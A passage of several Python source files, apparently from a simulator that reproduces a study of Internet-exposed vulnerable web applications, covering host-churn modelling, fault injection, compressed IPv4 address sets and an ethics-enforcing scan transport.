            ip = allocate_addresses(rng, 1, self._taken)[0]
            self.internet.add_host(Host(ip, HostKind.MIDDLEBOX))
            self.census.note_host(ip, self.model.background_rate)
            self.geo.assign(ip, rng, BACKGROUND_HOST_PROFILE)


def generate_internet(
    model: PopulationModel | None = None,
) -> tuple[SimulatedInternet, GeoDatabase, Census]:
    """Generate a simulated Internet according to ``model``.

    Returns the network, the IP metadata service, and the census used by
    the analysis layer for Internet-scale estimates.
    """
    generator = _Generator(model or PopulationModel())
    generator.generate_awe_hosts()
    generator.generate_out_of_scope_hosts()
    generator.generate_background()
    generator.generate_middleboxes()
    return generator.internet, generator.geo, generator.census
