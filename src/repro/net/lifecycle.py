"""Host churn during the four-week observation window (RQ3).

After the initial scan the paper re-scanned all 4,221 vulnerable hosts
every three hours for four weeks and watched them drift into three end
states: still *vulnerable*, *fixed* (reachable but no longer vulnerable),
or *offline* (shut down or firewalled).  This module assigns each
vulnerable host a fate, calibrated to the published curves:

* ~10% of hosts stop being vulnerable within the first six hours, mostly
  by going offline (insecure-by-default instances lead this early wave);
* afterwards the population decays by roughly 5-10% per week, leaving a
  bit over half still vulnerable after four weeks;
* fixes are rare (139 hosts, 3.2%) and front-loaded in the CMS category,
  where completing the installation is what "fixes" the MAV;
* explicitly misconfigured instances are somewhat more likely to be fixed
  (rather than taken offline) than insecure-by-default ones;
* ~2.4% of hosts update the application version while staying observed.

Jenkins and WordPress exit fastest; Joomla and Drupal linger longest;
notebooks stay vulnerable much longer than CI systems.
"""

from __future__ import annotations

import enum
import math
import random
from dataclasses import dataclass

from repro.apps.catalog import app_by_slug
from repro.net.host import Host
from repro.util.clock import DAY, HOUR, WEEK


class FateKind(enum.Enum):
    VULNERABLE = "vulnerable"  # survives the whole window
    FIXED = "fixed"
    OFFLINE = "offline"


@dataclass(frozen=True)
class Fate:
    """What happens to one vulnerable host during the observation."""

    kind: FateKind
    #: when the host stops being vulnerable (None if it never does)
    exit_time: float | None
    #: when (if ever) the owner updates the software version
    update_time: float | None

    def state_at(self, t: float) -> FateKind:
        if self.exit_time is None or t < self.exit_time:
            return FateKind.VULNERABLE
        return self.kind


#: Per-application hazard multipliers on the weekly exit rate.  >1 exits
#: faster (Jenkins, WordPress), <1 lingers (Joomla, Drupal, notebooks).
APP_HAZARD: dict[str, float] = {
    "jenkins": 1.6,
    "gocd": 1.3,
    "wordpress": 1.6,
    "grav": 1.0,
    "joomla": 0.45,
    "drupal": 0.5,
    "kubernetes": 1.0,
    "docker": 1.1,
    "consul": 1.0,
    "hadoop": 1.0,
    "nomad": 0.95,
    "jupyterlab": 0.6,
    "jupyter-notebook": 0.6,
    "zeppelin": 0.65,
    "polynote": 0.7,
    "ajenti": 1.0,
    "phpmyadmin": 1.0,
    "adminer": 1.0,
}


@dataclass
class LifecycleModel:
    """Fate sampler with the calibration constants exposed as fields."""

    window: float = 4 * WEEK
    #: probability of exiting within the first six hours
    quick_exit_base: float = 0.055
    quick_exit_insecure_default: float = 0.115
    #: share of quick exits that are fixes rather than shutdowns
    quick_fix_share: float = 0.10
    #: baseline weekly exit hazard after the quick phase
    weekly_hazard: float = 0.13
    #: share of slow exits that are fixes, by category
    fix_share_cms: float = 0.33
    fix_share_other: float = 0.045
    #: boost of the fix share for explicitly misconfigured instances
    modified_fix_boost: float = 1.6
    #: probability that a host updates its version during the window
    update_probability: float = 0.024
    #: mean of the (front-loaded) CMS fix time
    cms_fix_mean: float = 3 * DAY

    def fate_for(self, rng: random.Random, slug: str, version: str) -> Fate:
        """Sample the fate of one vulnerable deployment."""
        spec = app_by_slug(slug)
        by_default = spec.default_mav_in(version)

        update_time: float | None = None
        if rng.random() < self.update_probability:
            update_time = rng.uniform(0.0, self.window)

        quick_p = (
            self.quick_exit_insecure_default if by_default else self.quick_exit_base
        )
        if rng.random() < quick_p:
            exit_time = rng.uniform(0.0, 6 * HOUR)
            fixed = rng.random() < self.quick_fix_share
            kind = FateKind.FIXED if fixed else FateKind.OFFLINE
            return Fate(kind, exit_time, update_time)

        hazard = self.weekly_hazard * APP_HAZARD.get(slug, 1.0) / WEEK
        exit_time = rng.expovariate(hazard) if hazard > 0 else math.inf
        if exit_time >= self.window:
            return Fate(FateKind.VULNERABLE, None, update_time)

        if spec.category.short == "CMS":
            fix_share = self.fix_share_cms
        else:
            fix_share = self.fix_share_other
        if not by_default:
            fix_share = min(1.0, fix_share * self.modified_fix_boost)

        if rng.random() < fix_share:
            if spec.category.short == "CMS":
                # Installation completions cluster in the first days.
                exit_time = min(rng.expovariate(1.0 / self.cms_fix_mean), self.window * 0.999)
            return Fate(FateKind.FIXED, exit_time, update_time)
        return Fate(FateKind.OFFLINE, exit_time, update_time)

    def plan(
        self, rng: random.Random, hosts: list[tuple[Host, str, str]]
    ) -> dict[int, Fate]:
        """Assign fates to ``(host, slug, version)`` triples, keyed by IP."""
        return {
            host.ip.value: self.fate_for(rng, slug, version)
            for host, slug, version in hosts
        }
