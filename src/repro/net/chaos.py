"""Composable failure injection: a transport that misbehaves on purpose.

:class:`~repro.net.flaky.FlakyTransport` models exactly one failure —
silent packet loss.  Real sweeps see much more (§6.2: hosts that were
"unresponsive [or] temporarily unavailable"), so :class:`ChaosTransport`
generalises fault injection to the whole taxonomy a production scanner
must survive:

* **packet loss** — SYN probes vanish, requests time out (as before);
* **connection resets** — the exchange starts, then dies with a RST;
* **slow responses** — the answer arrives but costs simulated latency,
  charged to a :class:`~repro.util.clock.SimClock`;
* **hangs** — the tarpit case: nothing arrives and the exchange burns an
  hour of simulated time (or the watchdog budget) before timing out;
* **stalls** — the response trickles in so slowly that, under a
  watchdog, the read is abandoned mid-stream;
* **poison bodies** — the bytes arrive but crash whatever parses them
  (raised as a *non*-transport error, exercising the quarantine path);
* **truncated / garbled bodies** — the response is delivered but its
  body is cut short or replaced with binary noise, so signature and
  plugin logic must cope with malformed HTTP content;
* **flapping hosts** — a host is down for N virtual minutes out of every
  cycle, then back, keyed to the clock;
* **per-/24 outage bursts** — a whole block disappears periodically, the
  routing-incident case.

All faults are configured through one :class:`FaultPlan` value and drawn
from a seeded RNG, so any combination is reproducible bit-for-bit.  The
time-keyed faults (flapping, outages) are derived from
:func:`~repro.util.rand.stable_hash` of the target address rather than
from RNG draws, which keeps them stable across checkpoint/resume.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, fields

from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.clock import SimClock
from repro.util.errors import ConnectionReset, ConnectionTimeout
from repro.util.rand import rng_state_from_json, rng_state_to_json, stable_hash

_RATE_FIELDS = (
    "syn_loss",
    "request_loss",
    "reset_rate",
    "slow_rate",
    "hang_rate",
    "stall_rate",
    "poison_rate",
    "truncate_rate",
    "garble_rate",
    "flap_rate",
    "outage_rate",
)


@dataclass(frozen=True)
class FaultPlan:
    """Declarative description of how the network should misbehave.

    Rates are independent per-operation (or per-target for the time-keyed
    faults) probabilities in ``[0, 1]``; durations are simulated seconds.
    The zero plan injects nothing, so a ``ChaosTransport`` with the
    default plan is transparent.
    """

    #: probability a SYN probe is silently lost (looks filtered)
    syn_loss: float = 0.0
    #: probability an HTTP exchange times out without an answer
    request_loss: float = 0.0
    #: probability an HTTP exchange dies with a connection reset
    reset_rate: float = 0.0
    #: probability a response is delivered late (latency charged to clock)
    slow_rate: float = 0.0
    #: seconds of latency one slow response costs
    slow_latency: float = 30.0
    #: probability an exchange hangs — the tarpit case: nothing ever
    #: arrives, and without a watchdog the full hang latency is charged
    hang_rate: float = 0.0
    #: seconds a hung exchange burns before the simulated TCP stack gives up
    hang_latency: float = 3600.0
    #: probability a response trickles in so slowly it costs stall latency
    stall_rate: float = 0.0
    #: seconds a stalled (but eventually delivered) response costs
    stall_latency: float = 120.0
    #: probability a response body is poison: syntactically delivered but
    #: crashes naive parsers (the transport raises a non-transport error)
    poison_rate: float = 0.0
    #: probability a response body arrives cut short
    truncate_rate: float = 0.0
    #: probability a response body arrives as garbage bytes
    garble_rate: float = 0.0
    #: fraction of hosts that flap (down, then back, periodically)
    flap_rate: float = 0.0
    #: seconds a flapping host stays down per cycle
    flap_down: float = 120.0
    #: length of one flap cycle in seconds
    flap_period: float = 600.0
    #: fraction of /24 blocks hit by periodic outage bursts
    outage_rate: float = 0.0
    #: seconds one outage burst lasts
    outage_down: float = 300.0
    #: length of one outage cycle in seconds
    outage_period: float = 3600.0

    def __post_init__(self) -> None:
        for name in _RATE_FIELDS:
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {value}")
        for name in ("slow_latency", "hang_latency", "stall_latency",
                     "flap_down", "flap_period",
                     "outage_down", "outage_period"):
            if getattr(self, name) <= 0:
                raise ValueError(f"{name} must be positive")
        if self.flap_down > self.flap_period:
            raise ValueError("flap_down cannot exceed flap_period")
        if self.outage_down > self.outage_period:
            raise ValueError("outage_down cannot exceed outage_period")

    @classmethod
    def packet_loss(cls, rate: float) -> "FaultPlan":
        """The :class:`FlakyTransport`-equivalent plan: loss only."""
        return cls(syn_loss=rate, request_loss=rate)

    def scaled(self, factor: float) -> "FaultPlan":
        """A plan with every *rate* multiplied by ``factor`` (capped at 1)."""
        updates = {
            name: min(1.0, getattr(self, name) * factor) for name in _RATE_FIELDS
        }
        kept = {
            f.name: getattr(self, f.name)
            for f in fields(self)
            if f.name not in updates
        }
        return FaultPlan(**kept, **updates)


class ChaosTransport(Transport):
    """Decorator transport injecting the faults described by a plan.

    Statistics are *delegated to the innermost transport*: wrapping a
    transport must not split ``syn_probes``/``http_requests``/per-/24
    counters across decorator layers, or pipeline load under-reports.
    Fault bookkeeping lives in :attr:`faults` (injected events by kind).
    """

    def __init__(
        self,
        inner: Transport,
        plan: FaultPlan | None = None,
        seed: int = 0,
        clock: SimClock | None = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        self.inner = inner
        self.stats = inner.stats  # shared: one counter set per transport chain
        self.plan = plan if plan is not None else FaultPlan()
        self.clock = clock
        self.seed = seed
        self.telemetry = telemetry
        self._rng = random.Random(seed)
        #: injected fault events by kind ("syn-drop", "reset", "flap", ...)
        self.faults: dict[str, int] = {}
        #: total simulated latency charged by slow responses
        self.slow_seconds: float = 0.0
        #: total simulated latency charged by hung exchanges
        self.hang_seconds: float = 0.0
        #: total simulated latency charged by stalled responses
        self.stall_seconds: float = 0.0
        #: per-probe deadline in simulated seconds: latency faults charge
        #: at most this much before the exchange times out (None = wait
        #: out the full injected latency, the unsupervised behaviour)
        self.watchdog: float | None = None

    # -- fault plumbing ----------------------------------------------------

    def _note(self, kind: str, ip: IPv4Address | None = None) -> None:
        self.faults[kind] = self.faults.get(kind, 0) + 1
        if self.telemetry is not None:
            self.telemetry.metrics.counter("chaos_faults_total", kind=kind).inc()
            self.telemetry.events.debug("chaos", "fault", host=ip, kind=kind)

    def _now(self) -> float:
        return self.clock.now if self.clock is not None else 0.0

    def _charge_latency(self, latency: float) -> float:
        """Charge injected latency to the clock, capped by the watchdog.

        Returns the seconds actually charged; a return below ``latency``
        means the watchdog fired first and the caller must raise the
        timeout instead of waiting out the fault.
        """
        charged = (
            latency if self.watchdog is None else min(latency, self.watchdog)
        )
        if self.clock is not None:
            self.clock.advance(charged)
        return charged

    def _affected(self, rate: float, *key: object) -> bool:
        """Deterministic per-target selection (no RNG state consumed)."""
        return (stable_hash(self.seed, *key) % 1_000_000) / 1_000_000 < rate

    def _phase(self, period: float, *key: object) -> float:
        return (stable_hash(self.seed, "phase", *key) % 1_000_000) / 1_000_000 * period

    def _down_now(self, ip: IPv4Address) -> str | None:
        """The time-keyed fault currently blacking out ``ip``, if any."""
        plan = self.plan
        if plan.outage_rate:
            block = ip.value & 0xFFFFFF00
            if self._affected(plan.outage_rate, "outage", block):
                offset = (self._now() + self._phase(plan.outage_period, "outage", block))
                if offset % plan.outage_period < plan.outage_down:
                    return "outage"
        if plan.flap_rate and self._affected(plan.flap_rate, "flap", ip.value):
            offset = self._now() + self._phase(plan.flap_period, "flap", ip.value)
            if offset % plan.flap_period < plan.flap_down:
                return "flap"
        return None

    # -- transport hooks ---------------------------------------------------

    def _port_open(self, ip: IPv4Address, port: int) -> bool:
        down = self._down_now(ip)
        if down is not None:
            self._note(down, ip)
            return False
        if self.plan.syn_loss and self._rng.random() < self.plan.syn_loss:
            self._note("syn-drop", ip)
            return False
        return self.inner._port_open(ip, port)

    def _exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        down = self._down_now(ip)
        if down is not None:
            self._note(down, ip)
            raise ConnectionTimeout(f"{ip}:{port} unreachable (injected {down})")
        plan = self.plan
        if plan.hang_rate and self._rng.random() < plan.hang_rate:
            # The tarpit: no bytes ever arrive.  Time passes — the full
            # hang latency, or the watchdog budget when one is armed —
            # and then the exchange dies as a timeout either way.
            self._note("hang", ip)
            self.hang_seconds += self._charge_latency(plan.hang_latency)
            raise ConnectionTimeout(f"exchange with {ip}:{port} hung (injected)")
        if plan.request_loss and self._rng.random() < plan.request_loss:
            self._note("request-drop", ip)
            raise ConnectionTimeout(f"request to {ip}:{port} timed out (injected)")
        if plan.reset_rate and self._rng.random() < plan.reset_rate:
            self._note("reset", ip)
            raise ConnectionReset(f"connection to {ip}:{port} reset (injected)")
        response = self.inner._exchange(ip, port, scheme, request)
        if plan.slow_rate and self._rng.random() < plan.slow_rate:
            self._note("slow", ip)
            charged = self._charge_latency(plan.slow_latency)
            self.slow_seconds += charged
            if charged < plan.slow_latency:
                raise ConnectionTimeout(
                    f"slow response from {ip}:{port} hit the watchdog (injected)"
                )
        if plan.stall_rate and self._rng.random() < plan.stall_rate:
            # The response trickles in byte by byte.  Without a watchdog
            # the caller waits it out and still gets the body; with one,
            # the read is abandoned mid-stream.
            self._note("stall", ip)
            charged = self._charge_latency(plan.stall_latency)
            self.stall_seconds += charged
            if charged < plan.stall_latency:
                raise ConnectionTimeout(
                    f"response from {ip}:{port} stalled past the watchdog "
                    f"(injected)"
                )
        if plan.poison_rate and self._rng.random() < plan.poison_rate:
            # Not a transport failure: the bytes arrived, but anything
            # that parses them blows up.  Raising a non-TransportError
            # here models the parser crash at the call site that would
            # have consumed the body.
            self._note("poison", ip)
            raise RuntimeError(
                f"poison response body from {ip}:{port} (injected)"
            )
        if plan.truncate_rate and self._rng.random() < plan.truncate_rate:
            self._note("truncate", ip)
            cut = self._rng.randrange(len(response.body) // 2 + 1)
            return HttpResponse(response.status, response.headers, response.body[:cut])
        if plan.garble_rate and self._rng.random() < plan.garble_rate:
            self._note("garble", ip)
            noise = bytes(self._rng.getrandbits(8) for _ in range(64))
            return HttpResponse(
                response.status, response.headers, noise.decode("latin1")
            )
        return response

    def fetch_certificate(self, ip: IPv4Address, port: int):
        down = self._down_now(ip)
        if down is not None:
            self._note(down, ip)
            raise ConnectionTimeout(f"{ip}:{port} unreachable (injected {down})")
        if self.plan.request_loss and self._rng.random() < self.plan.request_loss:
            self._note("request-drop", ip)
            raise ConnectionTimeout(
                f"TLS handshake with {ip}:{port} timed out (injected)"
            )
        return self.inner.fetch_certificate(ip, port)

    # -- sharding support --------------------------------------------------

    def fork(self, shard_seed: int, clock: SimClock | None = None) -> "ChaosTransport":
        """A shard-local chaos layer over a fork of the inner transport.

        The *time-keyed* faults (flap/outage selection and phase) keep the
        parent ``seed``: which hosts flap is a property of the network,
        not of who scans it, so every shard — and every worker count —
        sees the same unreliable Internet.  The *per-call* fault stream is
        re-seeded from ``shard_seed`` so concurrent shards draw from
        independent deterministic RNGs instead of racing on one.
        """
        clone = ChaosTransport(
            self.inner.fork(shard_seed, clock),
            plan=self.plan,
            seed=self.seed,
            clock=clock,
        )
        clone._rng = random.Random(stable_hash(self.seed, "chaos-shard", shard_seed))
        clone.watchdog = self.watchdog
        return clone

    def __getstate__(self) -> dict:
        # The chaos layer crosses the process-pool pickle boundary as
        # part of a ShardRunner.  Its telemetry handle must not: that is
        # main-process state, and the forked shard clone gets the shard
        # pipeline's own handle attached on construction anyway.
        state = self.__dict__.copy()
        state["telemetry"] = None
        return state

    # -- checkpoint support ------------------------------------------------

    def snapshot_state(self) -> dict:
        """Everything needed to replay the fault stream after a resume."""
        return {
            "rng": rng_state_to_json(self._rng.getstate()),
            "faults": dict(self.faults),
            "slow_seconds": self.slow_seconds,
            "hang_seconds": self.hang_seconds,
            "stall_seconds": self.stall_seconds,
        }

    def restore_state(self, state: dict) -> None:
        self._rng.setstate(rng_state_from_json(state["rng"]))
        self.faults = dict(state["faults"])
        self.slow_seconds = state["slow_seconds"]
        # Checkpoints written before the hang/stall faults carry neither.
        self.hang_seconds = state.get("hang_seconds", 0.0)
        self.stall_seconds = state.get("stall_seconds", 0.0)
