"""Interval-compressed address populations.

The paper's longevity study re-scans the same 100M-address frame every
three hours for four weeks.  A frame that size cannot be a Python list of
per-address objects: at ~100 bytes per address the population alone would
need tens of gigabytes before the first probe is sent.  This module
stores a population as sorted disjoint inclusive ``(start, end)`` runs
over raw 32-bit address integers — a frame is then proportional to the
number of *runs*, not the number of addresses, and stage I can skip a
dead run wholesale instead of probing it host by host.

:class:`IntervalSet` is the algebra (union / intersect / difference /
membership / ordered iteration); :class:`CompressedPopulation` binds a
frame to a :class:`~repro.net.network.SimulatedInternet` so host state is
attached lazily, only for the handful of addresses that are actually
populated.
"""

from __future__ import annotations

from bisect import bisect_right
from dataclasses import dataclass
from functools import lru_cache
from typing import Iterable, Iterator, Sequence

from repro.net.ipv4 import MAX_IPV4, IPv4Address, IPv4Network, _RESERVED_ENDS, _RESERVED_STARTS
from repro.net.network import SimulatedInternet
from repro.util.rand import stable_hash

BLOCK_MASK = 0xFFFFFF00
BLOCK_SIZE = 256


class IntervalSet:
    """An immutable set of IPv4 addresses stored as disjoint inclusive runs.

    Runs are kept sorted, non-overlapping, and non-adjacent (touching
    runs are merged on construction), so every set of addresses has
    exactly one representation and ``==`` compares populations.
    """

    __slots__ = ("_runs", "_starts", "_count")

    def __init__(self, runs: Iterable[tuple[int, int]] = ()) -> None:
        self._runs: tuple[tuple[int, int], ...] = _normalise(runs)
        self._starts: tuple[int, ...] = tuple(start for start, _ in self._runs)
        self._count: int = sum(end - start + 1 for start, end in self._runs)

    # -- constructors --------------------------------------------------

    @classmethod
    def from_values(cls, values: Iterable[int | IPv4Address]) -> "IntervalSet":
        """Compress individual addresses (ints or IPv4Address) into runs."""
        ints = sorted(
            {v.value if isinstance(v, IPv4Address) else int(v) for v in values}
        )
        runs: list[tuple[int, int]] = []
        for value in ints:
            if runs and value == runs[-1][1] + 1:
                runs[-1] = (runs[-1][0], value)
            else:
                runs.append((value, value))
        return cls(runs)

    @classmethod
    def from_cidrs(cls, cidrs: Iterable[str]) -> "IntervalSet":
        """Build a set from dotted CIDR notation (``"10.0.0.0/8"``)."""
        runs = []
        for text in cidrs:
            net = IPv4Network.parse(text)
            runs.append((net.first.value, net.last.value))
        return cls(runs)

    # -- algebra -------------------------------------------------------

    def union(self, other: "IntervalSet") -> "IntervalSet":
        return IntervalSet(self._runs + other._runs)

    def intersect(self, other: "IntervalSet") -> "IntervalSet":
        out: list[tuple[int, int]] = []
        a, b = self._runs, other._runs
        i = j = 0
        while i < len(a) and j < len(b):
            start = max(a[i][0], b[j][0])
            end = min(a[i][1], b[j][1])
            if start <= end:
                out.append((start, end))
            if a[i][1] < b[j][1]:
                i += 1
            else:
                j += 1
        return IntervalSet(out)

    def difference(self, other: "IntervalSet") -> "IntervalSet":
        out: list[tuple[int, int]] = []
        j = 0
        holes = other._runs
        for start, end in self._runs:
            cursor = start
            while j < len(holes) and holes[j][1] < cursor:
                j += 1
            k = j
            while k < len(holes) and holes[k][0] <= end:
                hole_start, hole_end = holes[k]
                if hole_start > cursor:
                    out.append((cursor, hole_start - 1))
                cursor = max(cursor, hole_end + 1)
                if cursor > end:
                    break
                k += 1
            if cursor <= end:
                out.append((cursor, end))
        return IntervalSet(out)

    # -- queries -------------------------------------------------------

    def __contains__(self, value: int | IPv4Address) -> bool:
        v = value.value if isinstance(value, IPv4Address) else int(value)
        index = bisect_right(self._starts, v) - 1
        return index >= 0 and v <= self._runs[index][1]

    def __len__(self) -> int:
        return self._count

    @property
    def address_count(self) -> int:
        return self._count

    @property
    def runs(self) -> tuple[tuple[int, int], ...]:
        return self._runs

    def __bool__(self) -> bool:
        return bool(self._runs)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, IntervalSet):
            return NotImplemented
        return self._runs == other._runs

    def __hash__(self) -> int:
        return hash(self._runs)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"IntervalSet({self._count} addresses, {len(self._runs)} runs)"

    # -- iteration -----------------------------------------------------

    def iter_values(self) -> Iterator[int]:
        """All member addresses as raw ints, ascending."""
        for start, end in self._runs:
            yield from range(start, end + 1)

    def __iter__(self) -> Iterator[IPv4Address]:
        for value in self.iter_values():
            yield IPv4Address(value)

    def values_in(self, start: int, end: int) -> list[int]:
        """Member addresses within the inclusive ``[start, end]`` range."""
        out: list[int] = []
        index = max(0, bisect_right(self._starts, start) - 1)
        for run_start, run_end in self._runs[index:]:
            if run_start > end:
                break
            lo = max(run_start, start)
            hi = min(run_end, end)
            if lo <= hi:
                out.extend(range(lo, hi + 1))
        return out

    def count_in(self, start: int, end: int) -> int:
        """How many member addresses fall within ``[start, end]``."""
        total = 0
        index = max(0, bisect_right(self._starts, start) - 1)
        for run_start, run_end in self._runs[index:]:
            if run_start > end:
                break
            lo = max(run_start, start)
            hi = min(run_end, end)
            if lo <= hi:
                total += hi - lo + 1
        return total

    # -- /24 block views -----------------------------------------------

    def block_bases(self) -> list[int]:
        """Bases of every /24 block the set touches, ascending."""
        bases: list[int] = []
        for start, end in self._runs:
            base = start & BLOCK_MASK
            last = end & BLOCK_MASK
            if bases and base == bases[-1]:
                base += BLOCK_SIZE
            while base <= last:
                bases.append(base)
                base += BLOCK_SIZE
        return bases

    def block_values(self, base: int) -> list[int]:
        """Member addresses inside the /24 block at ``base``."""
        return self.values_in(base, base | (BLOCK_SIZE - 1))

    def block_counts(self) -> dict[int, int]:
        """Member count per /24 block base, ascending insertion order.

        One walk over the runs, so a sweep planner gets every block's
        size without a range query (or a materialised list) per block.
        """
        counts: dict[int, int] = {}
        for start, end in self._runs:
            first = start & BLOCK_MASK
            last = end & BLOCK_MASK
            if first == last:
                counts[first] = counts.get(first, 0) + (end - start + 1)
                continue
            counts[first] = counts.get(first, 0) + (first + BLOCK_SIZE - start)
            # Interior blocks are fully covered, and runs are disjoint, so
            # no other run can touch them: plain stores, no lookups.
            for base in range(first + BLOCK_SIZE, last, BLOCK_SIZE):
                counts[base] = BLOCK_SIZE
            counts[last] = counts.get(last, 0) + (end - last + 1)
        return counts

    # -- slicing -------------------------------------------------------

    def take(self, count: int) -> "IntervalSet":
        """The lowest ``count`` member addresses as a new set."""
        if count <= 0:
            return IntervalSet()
        out: list[tuple[int, int]] = []
        remaining = count
        for start, end in self._runs:
            size = end - start + 1
            if size >= remaining:
                out.append((start, start + remaining - 1))
                remaining = 0
                break
            out.append((start, end))
            remaining -= size
        return IntervalSet(out)

    # -- serialisation -------------------------------------------------

    def to_dict(self) -> dict:
        return {"runs": [[start, end] for start, end in self._runs]}

    @classmethod
    def from_dict(cls, payload: dict) -> "IntervalSet":
        return cls((int(start), int(end)) for start, end in payload["runs"])


def _normalise(runs: Iterable[tuple[int, int]]) -> tuple[tuple[int, int], ...]:
    cleaned = []
    for start, end in runs:
        start, end = int(start), int(end)
        if start > end:
            raise ValueError(f"interval start {start} exceeds end {end}")
        if start < 0 or end > MAX_IPV4:
            raise ValueError(f"interval [{start}, {end}] outside IPv4 space")
        cleaned.append((start, end))
    cleaned.sort()
    merged: list[tuple[int, int]] = []
    for start, end in cleaned:
        if merged and start <= merged[-1][1] + 1:
            merged[-1] = (merged[-1][0], max(merged[-1][1], end))
        else:
            merged.append((start, end))
    return tuple(merged)


@lru_cache(maxsize=1)
def reserved_intervals() -> IntervalSet:
    """The RFC-reserved address space as an interval set (cached)."""
    return IntervalSet(zip(_RESERVED_STARTS, _RESERVED_ENDS))


@dataclass(frozen=True)
class CompressedPopulation:
    """A scan frame bound to the simulated internet that backs it.

    The frame is pure intervals; host state is *not* stored here.  Stage
    I resolves liveness through the transport's
    ``live_values_in`` hint and only the populated addresses ever touch a
    :class:`~repro.net.host.Host` object — a 100M-address frame with ten
    thousand live hosts allocates ten thousand host records, not 100M.
    """

    internet: SimulatedInternet
    frame: IntervalSet

    @classmethod
    def build(
        cls,
        internet: SimulatedInternet,
        target_addresses: int,
        seed: int = 0,
    ) -> "CompressedPopulation":
        """Frame every populated /24 plus dead filler up to the target size.

        Filler runs come from unreserved, unpopulated space starting at a
        seed-derived offset, so two builds with the same world and seed
        produce the identical frame.
        """
        populated = IntervalSet.from_values(internet.populated_addresses())
        frame = IntervalSet(
            (base, base | (BLOCK_SIZE - 1)) for base in populated.block_bases()
        )
        needed = target_addresses - len(frame)
        if needed > 0:
            pool = (
                IntervalSet([(0, MAX_IPV4)])
                .difference(reserved_intervals())
                .difference(frame)
            )
            offset = stable_hash(seed, "frame-offset") % (MAX_IPV4 + 1)
            upper = pool.intersect(IntervalSet([(offset, MAX_IPV4)]))
            filler = upper.take(needed)
            short = needed - len(filler)
            if short > 0 and offset > 0:
                lower = pool.intersect(IntervalSet([(0, offset - 1)]))
                filler = filler.union(lower.take(short))
            frame = frame.union(filler)
        return cls(internet=internet, frame=frame)

    @property
    def address_count(self) -> int:
        return len(self.frame)

    def live_values(self) -> list[int]:
        """Populated addresses inside the frame, ascending."""
        values: Sequence[int] = sorted(
            ip.value for ip in self.internet.populated_addresses()
        )
        return [v for v in values if v in self.frame]
