"""Transport abstraction between the scanning pipeline and the network.

The pipeline never touches the simulator directly: it talks to a
:class:`Transport`, which answers two questions a real scanner asks the
wire — "is this TCP port open?" and "what does this HTTP(S) request
return?".  Two implementations exist:

* :class:`InMemoryTransport` — backed by the simulated Internet; this is
  what the experiments use.
* :class:`SocketTransport` (in :mod:`repro.net.server`) — real TCP to
  127.0.0.1, proving the pipeline is not coupled to the simulation.

The transport also enforces the paper's ethics constraints when asked to
(``enforce_ethics=True``): it refuses to forward state-changing requests,
exactly like the paper's pipeline which is "limited to non-state-changing
GET requests".
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass, field
from typing import Sequence

from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ReproError


class EthicsViolation(ReproError):
    """The pipeline attempted a state-changing request during a scan."""


@dataclass
class TransportStats:
    """Counters for the load a scan places on the network.

    Used both for reporting (requests per stage) and for the scan-order
    ablation, which looks at how bursts concentrate within /24 blocks.
    """

    syn_probes: int = 0
    http_requests: int = 0
    requests_per_slash24: dict[int, int] = field(default_factory=dict)

    def note_probe(self, ip: IPv4Address) -> None:
        self.syn_probes += 1

    def note_request(self, ip: IPv4Address) -> None:
        self.http_requests += 1
        block = ip.value & 0xFFFFFF00
        self.requests_per_slash24[block] = self.requests_per_slash24.get(block, 0) + 1

    def merge(self, other: "TransportStats") -> None:
        """Fold another transport's load accounting into this one."""
        self.syn_probes += other.syn_probes
        self.http_requests += other.http_requests
        for block, count in other.requests_per_slash24.items():
            self.requests_per_slash24[block] = (
                self.requests_per_slash24.get(block, 0) + count
            )

    def to_dict(self) -> dict:
        return {
            "syn_probes": self.syn_probes,
            "http_requests": self.http_requests,
            "requests_per_slash24": {
                str(block): count
                for block, count in sorted(self.requests_per_slash24.items())
            },
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "TransportStats":
        return cls(
            syn_probes=payload["syn_probes"],
            http_requests=payload["http_requests"],
            requests_per_slash24={
                int(block): count
                for block, count in payload["requests_per_slash24"].items()
            },
        )


class Transport(ABC):
    """What the scanning pipeline knows about the network."""

    def __init__(self, enforce_ethics: bool = True) -> None:
        self.enforce_ethics = enforce_ethics
        self.stats = TransportStats()

    @abstractmethod
    def _port_open(self, ip: IPv4Address, port: int) -> bool:
        """Backend hook: SYN/ACK or not."""

    @abstractmethod
    def _exchange(
        self, ip: IPv4Address, port: int, scheme: Scheme, request: HttpRequest
    ) -> HttpResponse:
        """Backend hook: one HTTP round trip.  Raises TransportError."""

    def syn_probe(self, ip: IPv4Address, port: int) -> bool:
        """Stage-I probe: is the TCP port open?"""
        self.stats.note_probe(ip)
        return self._port_open(ip, port)

    def probe_ports(self, ip: IPv4Address, ports: Sequence[int]) -> list[int]:
        """Stage-I batch probe: the sub-list of ``ports`` open on ``ip``.

        Semantically one ``syn_probe`` per port, in order.  Backends may
        override it with a cheaper equivalent (one host lookup instead of
        one per port); fault-injecting transports keep the default so
        every probe still passes through their per-call machinery.
        """
        return [port for port in ports if self.syn_probe(ip, port)]

    def live_values_in(self, start: int, end: int) -> Sequence[int] | None:
        """Liveness hint: addresses in ``[start, end]`` that *may* answer.

        Returns a sorted sequence of raw address ints, or None when the
        backend cannot know.  The contract is one-sided: an address absent
        from the hint is guaranteed to answer nothing, so stage I may
        account for its probes in bulk without sending them; an address
        present may still turn out dead.  Fault-injecting decorators keep
        the default (None) so every probe still pays their per-call toll.
        """
        return None

    def fork(self, shard_seed: int, clock=None) -> "Transport":
        """An independent transport over the same network for one shard.

        The fork shares the backend (the same simulated Internet) but
        carries its own :class:`TransportStats` and — for fault-injecting
        decorators — its own RNG stream derived from ``shard_seed``, so
        concurrent shards never contend on shared mutable state and each
        shard's traffic is deterministic in isolation.  The parallel
        engine merges the forks' stats back in canonical shard order.
        """
